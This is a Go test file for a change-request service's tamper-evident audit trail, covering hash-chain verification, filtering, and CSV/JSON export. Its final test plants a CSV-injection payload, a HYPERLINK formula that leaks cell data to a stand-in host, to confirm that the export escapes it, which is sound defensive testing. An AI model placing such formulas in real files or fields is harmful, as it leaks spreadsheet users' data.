package changes

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"
)

func sealedTrail(n int) ([]TrailRecord, TrailHead) {
	var head TrailHead
	var recs []TrailRecord
	at := time.Date(2026, 3, 1, 9, 0, 0, 0, time.UTC)
	for i := range n {
		var r TrailRecord
		r, head = SealTrailRecord(head, TrailRecord{At: at.Add(time.Duration(i) * time.Minute), Actor: "ana@acme.test",
			Kind: TrailRequestApproved, RequestID: "7", Comment: "ok"})
		recs = append(recs, r)
	}
	return recs, head
}

func TestVerifyTrailDetectsTampering(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name   string
		tamper func([]TrailRecord, TrailHead) ([]TrailRecord, TrailHead)
		want   string // substring of the error; "" means valid
	}{
		{"an untouched trail verifies", func(r []TrailRecord, h TrailHead) ([]TrailRecord, TrailHead) { return r, h }, ""},
		{"an edited comment is detected", func(r []TrailRecord, h TrailHead) ([]TrailRecord, TrailHead) {
			r[2].Comment = "never mind"
			return r, h
		}, "record 3 was edited"},
		{"an edited record with a recomputed hash breaks the next link", func(r []TrailRecord, h TrailHead) ([]TrailRecord, TrailHead) {
			r[1].Actor = "mallory@acme.test"
			r[1], _ = SealTrailRecord(TrailHead{Seq: 1, Hash: r[0].Hash}, r[1])
			return r, h
		}, "record 3 does not chain"},
		{"a deleted record in the middle is detected", func(r []TrailRecord, h TrailHead) ([]TrailRecord, TrailHead) {
			return append(r[:1:1], r[2:]...), h
		}, "deleted or reordered"},
		{"a deleted last record is detected against the head", func(r []TrailRecord, h TrailHead) ([]TrailRecord, TrailHead) {
			return r[:len(r)-1], h
		}, "removed from the end"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			recs, head := sealedTrail(4)
			recs, head = tt.tamper(recs, head)
			err := VerifyTrail(recs, head)
			if tt.want == "" {
				if err != nil {
					t.Fatalf("VerifyTrail = %v, want nil", err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("VerifyTrail = %v, want an error containing %q", err, tt.want)
			}
		})
	}
}

func TestTrailFilterAndExport(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	h := newHarness(t)
	r := h.approved(t, NewRequest{Steps: []Step{addStep("3", "payments")}, Justification: "on call"})
	if _, err := h.svc.Apply(ctx, r.ID); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name  string
		f     TrailFilter
		kinds []TrailKind
	}{
		{"by actor", TrailFilter{Actor: "ANA@acme.test"}, []TrailKind{TrailRequestApproved}},
		{"by kind prefix", TrailFilter{Kind: "step.", RequestID: r.ID}, []TrailKind{TrailStepApplying, TrailStepApplied}},
		{"by date, nothing before the request", TrailFilter{To: h.clock.Now().Add(-time.Hour)}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			recs, err := h.svc.Trail(ctx, tt.f)
			if err != nil {
				t.Fatal(err)
			}
			var got []TrailKind
			for _, r := range recs {
				got = append(got, r.Kind)
			}
			if strings.Join(kindsStr(got), ",") != strings.Join(kindsStr(tt.kinds), ",") {
				t.Errorf("kinds = %v, want %v", got, tt.kinds)
			}
		})
	}

	all, _ := h.svc.Trail(ctx, TrailFilter{})
	var buf bytes.Buffer
	if err := WriteTrailCSV(&buf, all); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(all)+1 || rows[0][0] != "seq" || rows[1][2] != "owner@acme.test" {
		t.Errorf("csv has %d rows (first %v), want a header and %d records", len(rows), rows[0], len(all))
	}
	buf.Reset()
	if err := WriteTrailJSON(&buf, all); err != nil {
		t.Fatal(err)
	}
	var back []TrailRecord
	if err := json.Unmarshal(buf.Bytes(), &back); err != nil {
		t.Fatal(err)
	}
	head, _ := h.repo.TrailHead(ctx)
	if err := VerifyTrail(back, head); err != nil {
		t.Errorf("exported JSON does not verify: %v", err)
	}
}

func kindsStr(ks []TrailKind) []string {
	out := make([]string, len(ks))
	for i, k := range ks {
		out[i] = string(k)
	}
	return out
}

func TestTheTrailCSVDefusesSpreadsheetFormulas(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	formula := `=HYPERLINK("https://evil.example/?"&A1,"click")`
	if _, err := h.svc.Create(context.Background(), owner, NewRequest{Steps: []Step{addStep("3", "payments")}, Justification: formula}); err != nil {
		t.Fatal(err)
	}
	all, _ := h.svc.Trail(context.Background(), TrailFilter{})
	var buf bytes.Buffer
	if err := WriteTrailCSV(&buf, all); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	comment := slices.Index(rows[0], "comment")
	if got, want := rows[len(rows)-1][comment], "'"+formula; got != want {
		t.Errorf("comment cell = %q, want %q", got, want)
	}
}
